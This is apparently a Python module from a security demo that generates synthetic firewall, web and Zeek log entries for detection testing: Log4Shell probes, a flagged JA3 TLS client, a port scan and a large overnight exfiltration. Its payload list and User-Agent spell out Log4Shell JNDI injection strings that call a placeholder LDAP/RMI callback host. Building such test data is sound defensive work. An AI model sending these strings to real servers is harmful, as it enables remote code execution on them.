"""Attacks on members' servers and from inside their networks.

Log4Shell probes (URL and User-Agent) against a member's web server and one
blocked by a firewall's threat prevention, a TLS client with a listed JA3, a
port scan and an overnight exfiltration.
"""

from __future__ import annotations

import polars as pl

from bastion.demo.formats.common import flows
from bastion.demo.formats.panos import ALLOWED_TLS_OUT
from bastion.demo.formats.zeek import with_uid
from bastion.demo.plant import HOUR, MINUTE, SECOND, Plant, Targets, plant, spread, times
from bastion.demo.rand import Draw
from bastion.demo.world import (
    EXFIL_IP,
    EXPLOIT_SOURCES,
    JA3_SERVER,
    JNDI_CALLBACK,
    JNDI_URL_PATTERN,
    MALICIOUS_JA3,
    SCANNER_IP,
    USER_AGENTS,
)

LOG4J_THREAT = "Apache Log4j Remote Code Execution Vulnerability(91991)"


def log4shell(draw: Draw, pick: Targets, day_start: int) -> list[Plant]:
    """Plant Log4Shell probes: in URLs and a User-Agent (nginx, live) and one blocked (PAN-OS)."""
    org = pick.member()
    www = pick.www[org.code]
    n = 20
    payloads = [
        f"/?x=${{jndi:ldap://{JNDI_CALLBACK}:1389/a}}",
        f"/${{jndi:ldap://{JNDI_CALLBACK}:1389/Exploit}}",
        f"/search?q=${{jndi:ldap://{JNDI_CALLBACK}:1389/Basic/Command/Base64/aWQ=}}",
        f"/login?user=${{jndi:rmi://{JNDI_CALLBACK}:1099/obj}}",
    ]
    url_probes = flows(
        ts=spread(draw, day_start + 14 * HOUR + 5 * MINUTE, day_start + 14 * HOUR + 15 * MINUTE, n),
        src=draw.choice(n, EXPLOIT_SOURCES[:2]),
        method="GET",
        path=draw.choice(n, payloads),
        ua=USER_AGENTS[0],
        referrer="-",
        status=draw.choice(n, ["400", "404", "200"]),
        bytes_in=draw.ints(n, 150, 600),
    )
    m = 10
    ua_probes = flows(
        ts=spread(
            draw, day_start + 14 * HOUR + 15 * MINUTE, day_start + 14 * HOUR + 20 * MINUTE, m
        ),
        src=EXPLOIT_SOURCES[1],
        method="GET",
        path="/",
        referrer="-",
        status=200,
        ua=f"${{jndi:ldap://{JNDI_CALLBACK}:1389/ua}}",
        bytes_in=draw.ints(m, 9000, 12000),
    )
    blocked_org = pick.member()
    blocked_www = pick.www[blocked_org.code]
    k = 8
    blocked = flows(
        ts=spread(draw, day_start + 16 * HOUR, day_start + 16 * HOUR + 4 * MINUTE, k),
        log="THREAT",
        threat_kind="vulnerability",
        threat=LOG4J_THREAT,
        severity="critical",
        src=EXPLOIT_SOURCES[2],
        sport=draw.ints(k, 49152, 65536),
        dst=blocked_www.address,
        dport=443,
        proto="tcp",
        app="web-browsing",
        action="reset-both",
        rule="allow-inbound-servers",
        host=blocked_www.hostname,
        method="GET",
        path=f"/?id=${{jndi:ldap://{JNDI_CALLBACK}:1389/b}}",
        ua=USER_AGENTS[8],
        category="any",
        device="pa-bdr-02",
    )
    external = sorted(set(EXPLOIT_SOURCES[:2]))
    return [
        plant(
            url_probes,
            kind="log4shell",
            org=org,
            host_ip=www.address,
            external=external,
            indicator=("url_pattern", JNDI_URL_PATTERN),
            fmt="nginx",
            file="nginx/access.log",
            action="allowed",
            description=f"Log4Shell probes in the URL to {www.hostname}; "
            "they reached the web server",
        ),
        plant(
            ua_probes,
            kind="log4shell",
            org=org,
            host_ip=www.address,
            external=[EXPLOIT_SOURCES[1]],
            indicator=None,
            fmt="nginx",
            file="nginx/access.log",
            action="allowed",
            description=f"Log4Shell probes in the User-Agent to {www.hostname} "
            "(no URL indicator matches: found by detection rules)",
        ),
        plant(
            blocked,
            kind="log4shell",
            org=blocked_org,
            host_ip=blocked_www.address,
            external=[EXPLOIT_SOURCES[2]],
            indicator=("url_pattern", JNDI_URL_PATTERN),
            fmt="panos",
            file="panos.log",
            action="blocked",
            description=f"Log4Shell exploit against "
            f"{blocked_www.hostname}; the firewall's threat prevention reset it",
        ),
    ]


def behavioural(draw: Draw, pick: Targets, day_start: int, events: int) -> list[Plant]:
    """Plant a listed JA3 client, a port scan (more ports for bigger days) and an exfiltration."""
    org = pick.member()
    host = pick.client(org)
    n = 24
    ja3 = with_uid(
        flows(
            ts=times(draw, day_start + 30 * MINUTE, n, HOUR, 90 * SECOND),
            src=host,
            sport=draw.ints(n, 49152, 65536),
            dst=JA3_SERVER,
            dport=443,
            sni="telemetry.cloudsync-update.example",
            ja3=MALICIOUS_JA3,
            category="TLSv12",
        ),
        draw,
    )
    org_scan = pick.member()
    target = pick.vpn.get(org_scan.code) or pick.www[org_scan.code]
    n_ports = max(100, min(1000, events // 200))
    ports = (
        pl.int_range(1, 10_001, eager=True).cast(pl.Int64).shuffle(seed=draw.rng.randrange(2**32))
    )
    scan = flows(
        ts=spread(
            draw, day_start + 3 * HOUR + 14 * MINUTE, day_start + 3 * HOUR + 17 * MINUTE, n_ports
        ),
        log="traffic",
        src=SCANNER_IP,
        sport=draw.ints(n_ports, 40000, 65536),
        dst=target.address,
        dport=ports.head(n_ports),
        proto="tcp",
        action="deny",
        rule="deny-inbound",
        bytes_out=0,
        bytes_in=0,
        duration_ms=0,
        device="fgt-bdr-02",
    ).with_columns(app=pl.lit("tcp/") + pl.col("dport").cast(pl.String))
    org_exfil = pick.member()
    exfil_host = pick.client(org_exfil)
    k = 24
    exfil = flows(
        ts=spread(draw, day_start + 90 * MINUTE, day_start + 210 * MINUTE, k),
        src=exfil_host,
        sport=draw.ints(k, 49152, 65536),
        dst=EXFIL_IP,
        **ALLOWED_TLS_OUT,
        bytes_out=draw.ints(k, 150_000_000, 250_000_000),
        bytes_in=draw.ints(k, 40_000, 90_000),
        duration_ms=draw.ints(k, 240_000, 600_000),
        device="pa-bdr-03",
    )
    total_gb = int(exfil["bytes_out"].sum()) / 1e9
    return [
        plant(
            ja3,
            kind="ja3",
            org=org,
            host_ip=host,
            external=[JA3_SERVER],
            indicator=("ja3", MALICIOUS_JA3),
            fmt="zeek",
            file="zeek/ssl.log",
            action="allowed",
            description="hourly TLS sessions from a client whose JA3 fingerprint is listed",
        ),
        plant(
            scan,
            kind="port-scan",
            org=org_scan,
            host_ip=target.address,
            external=[SCANNER_IP],
            indicator=None,
            fmt="fortigate",
            file="fortigate.log",
            action="blocked",
            description=f"one source probed {n_ports} ports of "
            f"{target.hostname} in three minutes; the firewall denied them",
        ),
        plant(
            exfil,
            kind="exfiltration",
            org=org_exfil,
            host_ip=exfil_host,
            external=[EXFIL_IP],
            indicator=None,
            fmt="panos",
            file="panos.log",
            action="allowed",
            description=f"one host sent {total_gb:.1f} GB to one external address overnight",
        ),
    ]
